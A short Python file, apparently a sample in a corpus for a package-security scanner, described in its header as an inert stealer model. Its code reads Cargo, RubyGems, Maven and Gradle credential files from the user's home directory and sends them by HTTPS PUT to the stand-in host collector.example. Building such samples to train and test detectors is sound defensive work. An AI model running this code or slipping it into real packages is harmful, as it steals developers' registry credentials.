# pkgguard corpus 462 (credentials), modelled on [stealer-profile]; inert, never run.
import http.client
import json
from pathlib import Path

home = Path.home()
found = {}
for rel in [".cargo/credentials.toml", ".gem/credentials", ".m2/settings.xml", ".gradle/gradle.properties"]:
    candidate = home / rel
    if candidate.is_file():
        found[rel] = candidate.read_text(errors="ignore")

conn = http.client.HTTPSConnection("collector.example", timeout=10)
conn.request("PUT", "/v2/blob", body=json.dumps(found), headers={"Content-Type": "application/json"})
conn.getresponse()
